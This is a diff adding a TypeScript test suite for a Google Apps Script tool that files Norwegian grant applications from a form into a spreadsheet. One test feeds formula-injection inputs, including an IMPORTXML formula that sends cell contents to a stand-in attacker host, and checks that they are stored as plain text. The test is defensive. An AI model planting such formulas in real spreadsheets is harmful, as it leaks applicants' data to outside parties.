@@ -1,0 +1,244 @@
+import { QUESTIONS } from '../../src/core/application-form';
+import { APPLICATIONS } from '../../src/core/contract';
+import { roundFor } from '../../src/core/intake';
+import { exampleWorkbook } from '../../src/example/agder';
+import { colOf, deskWith, sheetCalls, type Desk } from './desk-helpers';
+
+/** A complete, valid set of answers as Google's namedValues (title → [answer]). */
+function answers(
+  overrides: Record<string, string> = {},
+  stamp = '23.11.2026 10:00:00',
+): Record<string, string[]> {
+  const base: Record<string, string> = {
+    title: 'Felles akutteam',
+    applicant: 'Lister-kommunene',
+    category: 'Innovasjon/prosjekt',
+    type: 'Ny søknad',
+    region: 'Lister',
+    priorityAreas: 'Barn og unge, Svangerskap, fødsel og barsel',
+    municipalities: 'Flekkefjord, Kvinesdal',
+    hospital: 'Ja',
+    agreement: 'Ja',
+    contract: 'Nei',
+    need: 'Behov',
+    knowledgeBase: 'Kunnskap',
+    innovation: 'Ny metode',
+    benefitPlan: 'Færre innleggelser',
+    from: '2027-01',
+    to: '2027-12',
+    requested: '400000',
+    budget: 'Lønn: 300 000\nDrift: 100 000',
+    ownMunicipality: '100000',
+    ownHospital: '',
+    permanentCosts: 'Nei',
+    email: 'prosjekt@example.no',
+    ...overrides,
+  };
+  const named: Record<string, string[]> = { Tidsmerke: [stamp] };
+  for (const q of QUESTIONS) named[q.title.nb] = [base[q.key] ?? ''];
+  return named;
+}
+
+const event = (named: Record<string, string[]>) => ({
+  namedValues: named,
+  values: [named['Tidsmerke']?.[0] ?? ''],
+});
+
+function submit(sb: Desk, named: Record<string, string[]>, executionId?: string) {
+  return sb.runAs({ email: '', effectiveEmail: 'eier@example.no', executionId }, () =>
+    sb.call('onFormSubmit', event(named)),
+  );
+}
+
+function rows(sb: Desk, sheet = 'Søknader') {
+  const values = sb.spreadsheet.sheetData(sheet).values;
+  const header = values[0] as string[];
+  return values
+    .slice(1)
+    .filter((r) => r.some((v) => v !== ''))
+    .map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
+}
+
+const now = new Date();
+const round = roundFor(now.getFullYear(), now.getMonth() + 1, [5, 12]);
+const prefix = `${round.year}-${String(round.month).padStart(2, '0')}-`;
+
+describe('onFormSubmit', () => {
+  it('registers a response with the next case id of its round, its budget lines, a log line', () => {
+    const sb = deskWith();
+    submit(sb, answers());
+    const added = rows(sb).at(-1)!;
+    expect(added['Saksnr']).toBe(`${prefix}001`);
+    expect(added['Tittel']).toBe('Felles akutteam');
+    expect(added['Status']).toBe('Mottatt');
+    expect(added['Søkt beløp']).toBe(400_000);
+    expect(added['Prioriterte områder']).toBe('Barn og unge; Svangerskap, fødsel og barsel');
+    expect(added['Svar-ID']).toMatch(/^[0-9a-z]+$/);
+    expect(rows(sb, 'Budsjett').slice(-2)).toEqual([
+      { Saksnr: `${prefix}001`, Post: 'Lønn', Beløp: 300_000 },
+      { Saksnr: `${prefix}001`, Post: 'Drift', Beløp: 100_000 },
+    ]);
+    expect(rows(sb, 'Logg').at(-1)).toMatchObject({
+      Handling: 'Søknad mottatt',
+      Sak: `${prefix}001`,
+      Bruker: 'eier@example.no',
+    });
+    // Only the round can be off (the test runs on any date): the answers themselves are complete.
+    expect(rows(sb, 'Logg').at(-1)!['Etter']).toMatch(
+      /^Felles akutteam; (ingen avvik|avvik: outside-round)$/,
+    );
+  });
+
+  it('keeps 50 interleaved submissions, each once, with unique case ids, ignoring replays and blank events', () => {
+    const sb = deskWith();
+    const before = rows(sb).length;
+    for (let i = 0; i < 50; i++) {
+      const named = answers({ title: `Prosjekt ${i}` }, `23.11.2026 10:${String(i).padStart(2, '0')}:00`);
+      submit(sb, named, `exec-a${i}`);
+      if (i % 5 === 0) submit(sb, named, `exec-b${i}`); // the same response from a second trigger
+      if (i % 7 === 0) submit(sb, {}, `exec-c${i}`); // Google's blank duplicate firing
+      if (i % 9 === 0) {
+        const sparse = answers({ title: '', requested: '', budget: '', email: '' }, `23.11.2026 11:${i}:00`);
+        submit(sb, sparse, `exec-d${i}`);
+      }
+    }
+    const all = rows(sb);
+    expect(all.length - before).toBe(50 + 6); // 6 mostly-empty but real responses (i % 9 === 0) are kept
+    const ids = all.slice(before).map((r) => r['Saksnr']);
+    expect(new Set(ids).size).toBe(ids.length);
+    expect(ids.every((id) => String(id).startsWith(prefix))).toBe(true);
+    expect(all.filter((r) => String(r['Tittel']).startsWith('Prosjekt ')).length).toBe(50);
+  });
+
+  it('adds nothing for an event without answers', () => {
+    const sb = deskWith();
+    sb.call('onFormSubmit', { namedValues: { Tidsmerke: ['23.11.2026 10:00:00'], Prosjekttittel: [''] } });
+    sb.call('onFormSubmit', undefined);
+    expect(sb.calls.count('Range.setValues')).toBe(0);
+  });
+
+  it('maps by header when columns are reordered and a column is inserted', () => {
+    const values = exampleWorkbook();
+    values['Søknader'] = values['Søknader']!.map((row, r) => [
+      'Notater' && (r === 0 ? 'Notater' : ''),
+      ...[...row].reverse(),
+    ]);
+    const sb = deskWith(values);
+    submit(sb, answers());
+    const added = rows(sb).at(-1)!;
+    expect(added['Tittel']).toBe('Felles akutteam');
+    expect(added['Notater']).toBe('');
+    expect(added['Søkt beløp']).toBe(400_000);
+  });
+
+  it('stops with the name of a missing header and writes nothing', () => {
+    const values = exampleWorkbook();
+    values['Søknader']![0]![APPLICATIONS.fields.findIndex((f) => f.header === 'Søkt beløp')] = 'Beløp?';
+    const sb = deskWith(values);
+    expect(() => submit(sb, answers())).toThrow(/«Søkt beløp»/);
+    expect(sb.calls.count('Range.setValues')).toBe(0);
+  });
+
+  it('waits for the lock and fails rather than write while another execution holds it', () => {
+    const sb = deskWith();
+    sb.fakes.LockService.holdFor('document', 'another-execution');
+    expect(() => submit(sb, answers())).toThrow(/Lock timeout/);
+    expect(sb.calls.count('Range.setValues')).toBe(0);
+  });
+
+  it('keeps invalid answers as typed, flagged in Avvik, never lost', () => {
+    const values = exampleWorkbook();
+    values['Avvik'] = [['Regel', 'Alvorlighet', 'Sak', 'Melding', 'Celle']];
+    const sb = deskWith(values);
+    submit(sb, answers({ requested: 'mye penger', from: 'snart', priorityAreas: '' }));
+    const added = rows(sb).at(-1)!;
+    expect(added['Søkt beløp']).toBe('mye penger');
+    const flagged = rows(sb, 'Avvik').map((r) => r['Regel']);
+    expect(flagged).toEqual(
+      expect.arrayContaining(['amount-invalid', 'period-invalid', 'priority-area-missing']),
+    );
+  });
+
+  it.each([
+    ['a formula that leaks data', '=IMPORTXML("https://evil.example/?q="&A1;"//a")'],
+    ['a plus', '+SUM(1;2)'],
+    ['a minus', '-2+3'],
+    ['an at sign', '@INDIRECT("A1")'],
+    ['a tab', '\t=1+1'],
+    ['a carriage return', '\r=1+1'],
+    ['40 000 characters', 'x'.repeat(40_000)],
+    ['emoji', 'Prosjekt 🚑💙 for alle'],
+    ['right-to-left text', 'مشروع الصحة المشترك'],
+  ])('stores a hostile answer (%s) as text, never as a formula', (_what, text) => {
+    const sb = deskWith();
+    submit(sb, answers({ title: text, applicant: text, budget: `${text}: 400 000` }));
+    const data = sb.spreadsheet.sheetData('Søknader');
+    expect(data.formulas.flat().filter((f) => f !== '')).toEqual([]);
+    expect(
+      sb.spreadsheet
+        .sheetData('Budsjett')
+        .formulas.flat()
+        .filter((f) => f !== ''),
+    ).toEqual([]);
+    // Answers are trimmed (a leading tab or line break is noise), then stored as the text itself.
+    expect(data.values.at(-1)![colOf(sb, 'Søknader', 'Tittel')]).toBe(text.trim());
+  });
+
+  it('e-mails a receipt with the case id when enabled and within the quota', () => {
+    const values = exampleWorkbook();
+    values['Innstillinger']!.push(['Kvittering på e-post', 'Ja']);
+    const sb = deskWith(values);
+    submit(sb, answers());
+    expect(sb.fakes.MailApp.outbox).toHaveLength(1);
+    expect(sb.fakes.MailApp.outbox[0]).toMatchObject({ to: ['prosjekt@example.no'] });
+    expect(JSON.stringify(sb.fakes.MailApp.outbox[0])).toContain(`${prefix}001`);
+
+    const broke = deskWith(values, { mailQuota: 0 });
+    submit(broke, answers());
+    expect(broke.fakes.MailApp.outbox).toHaveLength(0);
+    expect(rows(broke).at(-1)!['Saksnr']).toBe(`${prefix}001`);
+  });
+
+  it('sends no receipt by default', () => {
+    const sb = deskWith();
+    submit(sb, answers());
+    expect(sb.fakes.MailApp.outbox).toHaveLength(0);
+  });
+
+  it('makes the same number of sheet calls for 10 and 1 000 applications', () => {
+    const counts = [10, 1000].map((n) => {
+      const values = exampleWorkbook();
+      const template = values['Søknader']![1]!;
+      for (let i = 0; i < n; i++)
+        values['Søknader']!.push(template.map((v, c) => (c === 0 ? `2025-05-${100 + i}` : v)));
+      const sb = deskWith(values);
+      submit(sb, answers());
+      return sheetCalls(sb);
+    });
+    expect(counts[1]).toBe(counts[0]);
+  });
+});
+
+describe('Opprett søknadsskjema', () => {
+  it('generates the form from the schema, sends responses to the sheet and installs one trigger', () => {
+    const sb = deskWith();
+    sb.ui.answerAlert().answerAlert();
+    sb.call('createForm');
+    sb.call('createForm');
+    const forms = [...sb.fakes.FormApp.forms.values()];
+    expect(forms).toHaveLength(2);
+    const form = forms[1]!.snapshot();
+    expect(form.description).toMatch(/pasientopplysninger/);
+    expect(form.destination).toEqual({ type: 'SPREADSHEET', id: sb.spreadsheet.getId() });
+    const titles = form.items.map((i) => i.title);
+    for (const q of QUESTIONS) expect(titles).toContain(q.title.nb);
+    const areas = form.items.find((i) => i.title === 'Prioriterte områder')!;
+    expect(areas).toMatchObject({ type: 'CHECKBOX', required: true });
+    expect(JSON.stringify(areas)).toContain('Svangerskap, fødsel og barsel');
+    const amount = form.items.find((i) => i.title === 'Søkt beløp (kr)')!;
+    expect(JSON.stringify(amount)).toMatch(/NUMBER/i);
+    const triggers = sb.fakes.ScriptApp.allTriggers().filter((t) => t.handler === 'onFormSubmit');
+    expect(triggers).toHaveLength(1);
+    expect(sb.ui.alerts.at(-1)!.prompt).toContain(sb.fakes.FormApp.forms.get(form.id)!.getPublishedUrl());
+  });
+});
